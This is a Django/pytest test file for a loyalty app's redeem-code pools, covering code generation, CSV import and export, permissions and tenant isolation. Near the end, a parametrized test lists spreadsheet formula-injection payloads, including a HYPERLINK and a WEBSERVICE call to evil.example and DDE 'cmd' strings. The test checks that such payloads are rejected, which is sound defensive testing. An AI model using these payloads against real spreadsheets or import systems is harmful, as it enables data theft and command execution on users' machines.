"""The Redeem codes page: pools with free and used codes, a new pool, codes generated and
imported (all or nothing, each bad line named), unused codes as CSV for the POS."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from stampcard.audit.models import AuditEntry
from stampcard.vouchers.models import CodePool, PoolCode
from stampcard.vouchers.services import issue_voucher


def page(business):
    return reverse("dashboard:redeem_codes", args=[business.slug])


def csv_url(business, pool):
    return reverse("dashboard:redeem_codes_csv", args=[business.slug, pool.pk])


@pytest.fixture
def generated(business):
    return CodePool.objects.create(business=business, name="Bakery", kind="generated")


@pytest.fixture
def imported(business):
    return CodePool.objects.create(business=business, name="Till codes", kind="imported")


def test_owner_creates_a_pool_and_generates_codes(client, owner, business):
    client.force_login(owner)
    response = client.post(
        page(business),
        {"action": "create", "name": "Pastry", "kind": "generated", "code_length": "10"},
    )
    assert response.status_code == 302
    pool = CodePool.objects.get(business=business)
    assert (pool.name, pool.kind, pool.code_length) == ("Pastry", "generated", 10)
    response = client.post(
        page(business), {"action": "generate", "pool": pool.pk, "count": "250"}, follow=True
    )
    assert "250 codes generated." in response.content.decode()
    assert PoolCode.objects.filter(pool=pool).count() == 250
    assert {len(code) for code in PoolCode.objects.values_list("code", flat=True)} == {10}
    assert "data-free>250<" in response.content.decode()
    actions = set(AuditEntry.objects.values_list("action", flat=True))
    assert {"code_pool.created", "code_pool.generated"} <= actions


def test_one_request_generates_at_most_100000_codes(client, owner, business, generated):
    client.force_login(owner)
    response = client.post(
        page(business), {"action": "generate", "pool": generated.pk, "count": "100001"}
    )
    assert response.status_code == 400
    assert "less than or equal to 100000" in response.content.decode()
    assert not PoolCode.objects.exists()


def test_a_static_pool_needs_its_code(client, owner, business):
    client.force_login(owner)
    response = client.post(
        page(business), {"action": "create", "name": "Free", "kind": "static", "code_length": "8"}
    )
    assert response.status_code == 400
    assert "Type the code every voucher shows." in response.content.decode()
    response = client.post(
        page(business),
        {"action": "create", "name": "Free", "kind": "static", "static_code": "bad code!"},
    )
    assert response.status_code == 400
    assert not CodePool.objects.exists()


def test_an_import_with_a_bad_line_names_it_and_imports_nothing(client, owner, business, imported):
    client.force_login(owner)
    upload = SimpleUploadedFile("codes.csv", b"code\nPOS-1\nPOS 2\nPOS-3\n", "text/csv")
    response = client.post(
        page(business), {"action": "import", "pool": imported.pk, "file": upload}
    )
    assert response.status_code == 400
    text = response.content.decode()
    assert "Line 3: “POS 2”: a code cannot hold spaces" in text
    assert "Nothing was imported." in text
    assert not PoolCode.objects.exists()
    response = client.post(
        page(business),
        {"action": "import", "pool": imported.pk, "text": "POS-1\nPOS-3\nPOS-1\n"},
        follow=True,
    )
    assert "2 codes imported. 1 was already in the pool and was skipped." in (
        response.content.decode()
    )
    assert set(PoolCode.objects.values_list("code", flat=True)) == {"POS-1", "POS-3"}
    assert AuditEntry.objects.filter(action="code_pool.imported").count() == 1


def test_an_import_without_codes_is_refused(client, owner, business, imported):
    client.force_login(owner)
    response = client.post(page(business), {"action": "import", "pool": imported.pk, "text": " "})
    assert response.status_code == 400
    assert "Choose a file or paste the codes." in response.content.decode()


def test_the_pool_page_warns_when_free_codes_run_low_or_out(client, owner, business, imported):
    client.force_login(owner)
    text = client.get(page(business)).content.decode()
    assert "No free codes left." in text
    PoolCode.objects.bulk_create(
        PoolCode(business=business, pool=imported, code=f"C{n}") for n in range(3)
    )
    text = client.get(page(business)).content.decode()
    assert "Only 3 free codes left." in text
    PoolCode.objects.bulk_create(
        PoolCode(business=business, pool=imported, code=f"D{n}") for n in range(100)
    )
    text = client.get(page(business)).content.decode()
    assert "free codes left" not in text
    assert "No free codes" not in text


def test_unused_codes_download_as_safe_csv(client, owner, business, imported, staff_actor):
    for code in ["A-1", "-SUM1", "B_2"]:
        PoolCode.objects.create(business=business, pool=imported, code=code)
    issued = issue_voucher(
        business=business,
        actor=staff_actor,
        title="Gift",
        origin="manual",
        redemption_method="redeem_code",
        code_pool=imported,
    )
    assert issued.code == "A-1"
    client.force_login(owner)
    response = client.get(csv_url(business, imported))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    # Only the unused codes, each exactly as the POS must accept it: a code's alphabet
    # cannot make a formula that runs anything, so "-SUM1" gets no quote in front.
    assert rows == [["code"], ["-SUM1"], ["B_2"]]
    assert AuditEntry.objects.get(action="code_pool.downloaded").details == {"count": 2}


def test_staff_may_not_and_managers_may(client, bob, maria, business, imported):
    client.force_login(bob)
    assert client.get(page(business)).status_code == 403
    assert client.get(csv_url(business, imported)).status_code == 403
    response = client.post(page(business), {"action": "import", "pool": imported.pk, "text": "X1"})
    assert response.status_code == 403
    assert not PoolCode.objects.exists()
    client.force_login(maria)
    assert client.get(page(business)).status_code == 200
    assert client.get(csv_url(business, imported)).status_code == 200


def test_another_business_pool_is_not_found(client, owner, business, other_business):
    foreign = CodePool.objects.create(business=other_business, name="Rival", kind="imported")
    PoolCode.objects.create(business=other_business, pool=foreign, code="SECRET1")
    client.force_login(owner)
    assert "Rival" not in client.get(page(business)).content.decode()
    assert client.get(csv_url(business, foreign)).status_code == 404
    response = client.post(page(business), {"action": "import", "pool": foreign.pk, "text": "X1"})
    assert response.status_code == 404
    assert PoolCode.objects.filter(pool=foreign).count() == 1


def test_the_page_is_in_the_users_language(client, owner, business, imported):
    client.force_login(owner)
    client.cookies["django_language"] = "th"
    text = client.get(page(business), HTTP_ACCEPT_LANGUAGE="th").content.decode()
    assert "รหัสใช้สิทธิ์" in text
    assert "Download unused codes" not in text


POS_CODES = ["-5OFF", "--X", "-SUM1", "A_-1", "_lead", "plain7"]


def test_codes_starting_with_a_minus_round_trip_exactly(client, owner, business, imported):
    """The POS's own codes, "-5OFF" among them, go in, come out and go in again unchanged."""
    client.force_login(owner)
    upload = SimpleUploadedFile("pos.csv", ("code\n" + "\n".join(POS_CODES)).encode(), "text/csv")
    response = client.post(
        page(business), {"action": "import", "pool": imported.pk, "file": upload}
    )
    assert response.status_code == 302
    downloaded = client.get(csv_url(business, imported)).content
    assert downloaded.decode() == "code\r\n" + "".join(f"{code}\r\n" for code in POS_CODES)
    again = CodePool.objects.create(business=business, name="Second till", kind="imported")
    upload = SimpleUploadedFile("again.csv", downloaded, "text/csv")
    response = client.post(page(business), {"action": "import", "pool": again.pk, "file": upload})
    assert response.status_code == 302
    assert list(
        PoolCode.objects.filter(pool=again).order_by("id").values_list("code", flat=True)
    ) == (POS_CODES)


def test_a_quote_an_earlier_download_or_a_spreadsheet_put_in_front_is_taken_off(
    client, owner, business, imported
):
    client.force_login(owner)
    old_download = b"code\r\n'-5OFF\r\n\"'-SUM1\"\r\nB_2\r\n"
    upload = SimpleUploadedFile("old.csv", old_download, "text/csv")
    response = client.post(
        page(business), {"action": "import", "pool": imported.pk, "file": upload}
    )
    assert response.status_code == 302
    assert list(PoolCode.objects.order_by("id").values_list("code", flat=True)) == [
        "-5OFF",
        "-SUM1",
        "B_2",
    ]


@pytest.mark.parametrize(
    "payload",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=1+1",
        '\'-1+WEBSERVICE("http://evil.example")',
        "+1-2",
        "-A1:A9",
    ],
)
def test_a_formula_is_refused_on_import_and_never_stored(
    client, owner, business, imported, payload
):
    client.force_login(owner)
    out = io.StringIO()
    csv.writer(out).writerows([["code"], ["GOOD-1"], [payload]])
    upload = SimpleUploadedFile("evil.csv", out.getvalue().encode(), "text/csv")
    response = client.post(
        page(business), {"action": "import", "pool": imported.pk, "file": upload}
    )
    assert response.status_code == 400
    assert "Line 3:" in response.content.decode()
    assert not PoolCode.objects.exists()


def test_a_formula_that_got_into_a_pool_otherwise_is_still_downloaded_as_text(
    client, owner, business, imported
):
    """Codes are checked on the way in; the download does not count on it."""
    PoolCode.objects.create(business=business, pool=imported, code='=HYPERLINK("http://x")')
    PoolCode.objects.create(business=business, pool=imported, code="-5OFF")
    client.force_login(owner)
    rows = list(csv.reader(io.StringIO(client.get(csv_url(business, imported)).content.decode())))
    assert rows == [["code"], ['\'=HYPERLINK("http://x")'], ["-5OFF"]]
